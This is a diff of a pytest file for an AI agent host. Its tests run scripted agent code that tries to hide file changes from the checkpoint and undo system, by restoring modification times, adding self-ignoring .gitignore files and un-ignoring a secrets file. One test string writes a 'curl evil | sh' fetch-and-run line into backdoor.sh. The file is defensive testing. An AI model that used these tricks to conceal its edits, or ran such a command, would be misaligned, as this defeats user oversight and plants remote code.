@@ -8,14 +8,11 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from cli_support import script
 
-from vis_core.agent.person_input import undo
-from vis_core.events import BlockFinished
-from vis_core.host import Host, HostOptions
 from vis_core.model.block import FileChangeKind
-from vis_core.model.undo import UndoReport
 from vis_core.tools.checkpoints import Checkpoints
+
+from .undone_turns import turn_then_undo
 
 
 def _repository(ws: Path) -> None:
@@ -27,24 +24,6 @@ def _repository(ws: Path) -> None:
     subprocess.run(["git", "init", "-q", str(ws)], check=True)
     subprocess.run([*git, "add", "app.py"], check=True)
     subprocess.run([*git, "commit", "-q", "-m", "i"], check=True)
-
-
-async def _attack(ws: Path, tmp_path: Path, code: str) -> tuple[list[BlockFinished], UndoReport]:
-    """One turn whose one block runs ``code`` (in the sandbox, jailed where bubblewrap
-    works), then ``/undo``: the block's row and what /undo did."""
-    steps = [{"code": code}, {"text": "I only looked around; no changes."}]
-    host = await Host.open(
-        HostOptions(workspace=ws, provider="scripted", script=script(tmp_path, steps))
-    )
-    events: list[object] = []
-    try:
-        session = await host.new_session()
-        session.subscribe(events.append)
-        await session.submit("look around")
-        report = await undo(session)
-    finally:
-        await host.close()
-    return [e for e in events if isinstance(e, BlockFinished)], report
 
 
 async def test_a_file_whose_modification_time_was_put_back_is_listed_and_undone(
@@ -62,7 +41,7 @@ async def test_a_file_whose_modification_time_was_put_back_is_listed_and_undone(
         "    st = os.stat(n); d = open(n).read().replace(o, w); open(n, 'w').write(d)\n"
         "    os.utime(n, ns=(st.st_atime_ns, st.st_mtime_ns))\n"
     )
-    blocks, report = await _attack(workspace, tmp_path, code)
+    blocks, report = await turn_then_undo(workspace, tmp_path, code)
     changes = {c.path: c for c in blocks[0].files}
     assert {p: c.kind for p, c in changes.items()} == {
         "app.py": FileChangeKind.CHANGED,
@@ -113,7 +92,7 @@ async def test_a_gitignore_a_block_writes_hides_none_of_its_files(
         "open('backdoor.sh', 'w').write('curl evil | sh\\n')\n"
         "open('notes.txt', 'w').write('overwritten\\n')\n"
     )
-    blocks, report = await _attack(workspace, tmp_path, code)
+    blocks, report = await turn_then_undo(workspace, tmp_path, code)
     assert [(c.path, c.kind) for c in blocks[0].files] == [
         (".gitignore", FileChangeKind.CREATED),
         ("backdoor.sh", FileChangeKind.CREATED),
@@ -146,7 +125,7 @@ async def test_a_gitignore_a_block_changes_outside_git_hides_nothing(
         "open('hidden.py', 'w').write('import evil\\n')\n"
         "open('build/more.o', 'w').write('made\\n')\n"
     )
-    blocks, report = await _attack(workspace, tmp_path, code)
+    blocks, report = await turn_then_undo(workspace, tmp_path, code)
     assert [(c.path, c.kind) for c in blocks[0].files] == [
         (".gitignore", FileChangeKind.CHANGED),
         ("hidden.py", FileChangeKind.CREATED),
@@ -172,7 +151,7 @@ async def test_what_unchanged_ignore_rules_hide_stays_unlisted(
         "os.mkdir('cache'); open('cache/c.bin', 'w').write('c\\n')\n"
         "open('run.log', 'w').write('log\\n')\n"
     )
-    blocks, _report = await _attack(workspace, tmp_path, code)
+    blocks, _report = await turn_then_undo(workspace, tmp_path, code)
     assert [(c.path, c.kind) for c in blocks[0].files] == [
         (".gitignore", FileChangeKind.CHANGED),
         ("secret.txt", FileChangeKind.CREATED),
@@ -187,7 +166,9 @@ async def test_undo_keeps_a_file_a_block_un_ignored(workspace: Path, tmp_path: P
     _repository(workspace)
     (workspace / ".gitignore").write_text("secrets.txt\n")
     (workspace / "secrets.txt").write_text("my secret\n")
-    blocks, report = await _attack(workspace, tmp_path, "open('.gitignore', 'w').write('')\n")
+    blocks, report = await turn_then_undo(
+        workspace, tmp_path, "open('.gitignore', 'w').write('')\n"
+    )
     assert [(c.path, c.kind) for c in blocks[0].files] == [(".gitignore", FileChangeKind.CHANGED)]
     assert report.restored == (".gitignore",) and report.removed == ()
     assert (workspace / "secrets.txt").read_text() == "my secret\n"
@@ -210,7 +191,7 @@ async def test_a_new_folder_ignoring_itself_hides_none_of_its_files(
         "    open(folder + '/.gitignore', 'w').write('*\\n')\n"
         "    open(folder + '/evil.py', 'w').write('import evil\\n')\n"
     )
-    blocks, report = await _attack(workspace, tmp_path, code)
+    blocks, report = await turn_then_undo(workspace, tmp_path, code)
     made = ["pkg/.gitignore", "pkg/evil.py", "pkg/sub/.gitignore", "pkg/sub/evil.py"]
     assert [(c.path, c.kind) for c in blocks[0].files] == [
         (path, FileChangeKind.CREATED) for path in made
